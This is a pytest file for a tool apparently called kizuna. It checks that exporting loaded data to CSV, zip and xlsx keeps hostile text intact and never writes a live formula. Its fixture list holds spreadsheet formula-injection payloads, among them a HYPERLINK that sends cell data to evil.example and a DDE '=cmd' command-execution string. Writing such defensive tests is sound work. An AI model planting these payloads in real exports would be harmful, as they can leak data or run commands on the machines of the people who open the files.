"""Load → `kizuna export` (csv, zip, xlsx) → read gives back every hostile text exactly, and
the exported files hold no live formula (docs/bundle-format.md, docs/security.md)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from kizuna.cli import cli
from kizuna.graph.cells import FORMULA_CHARS
from kizuna.loaders.readers import read_bundle

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-2+3",
    '=IMPORTXML("http://evil.example/x","//a")',
    "\t=1+1",
    "\r=1+1",
    "''=apostrophe kept",  # read as '=apostrophe kept; exported as ''=…, read back the same
    "TAMA協会",
]


def run(env: dict[str, str], *args: str) -> Any:
    result = CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


def hostile_bundle(folder: Path) -> Path:
    folder.mkdir()
    with open(folder / "nodes.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "name", "kind", "lat", "lon", "note"])
        for i, name in enumerate(HOSTILE):
            writer.writerow([f"n{i}", name, "company", -33.5 - i, 139.25, name])
    with open(folder / "ties.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["source", "target", "kind", "evidence"])
        for i, name in enumerate(HOSTILE[:-1]):
            writer.writerow([f"n{i}", f"n{i + 1}", "joint_rd", name])
    return folder


def texts(path: Path) -> dict[str, Any]:
    bundle, problems = read_bundle(path)
    assert not [p for p in problems if p.severity == "error"]
    nodes = bundle.nodes.set_index("id")
    ties = bundle.ties.set_index("source")
    return {
        "name": nodes["name"].to_dict(),
        "note": nodes["note"].to_dict(),
        "lat": nodes["lat"].to_dict(),
        "evidence": ties["evidence"].to_dict(),
    }


@pytest.mark.store
def test_export_after_load_is_exact_and_never_a_formula(
    clean_store: Any, store_env: dict[str, str], tmp_path: Path
) -> None:
    src = hostile_bundle(tmp_path / "src")
    expected = texts(src)
    assert expected["name"]["n8"] == "'=apostrophe kept"
    run(store_env, "load", str(src))
    for out in (tmp_path / "csv", tmp_path / "b.zip", tmp_path / "b.xlsx"):
        run(store_env, "export", "--out", str(out))
        assert texts(out) == expected, out.name
    rows = list(csv.reader(io.StringIO((tmp_path / "csv" / "nodes.csv").read_text("utf-8-sig"))))
    header = rows[0]
    for row in rows[1:]:
        for col, cell in zip(header, row, strict=True):
            if col in ("lat", "lon"):
                assert float(cell) < 0 or col == "lon"  # numbers stay numbers
            else:
                assert not cell or cell[0] not in FORMULA_CHARS, (col, cell)
    book = openpyxl.load_workbook(tmp_path / "b.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title
    # the export loads again and exports the same (the escaping never accumulates)
    run(store_env, "load", str(tmp_path / "csv"), "--replace")
    run(store_env, "export", "--out", str(tmp_path / "again"))
    assert texts(tmp_path / "again") == expected
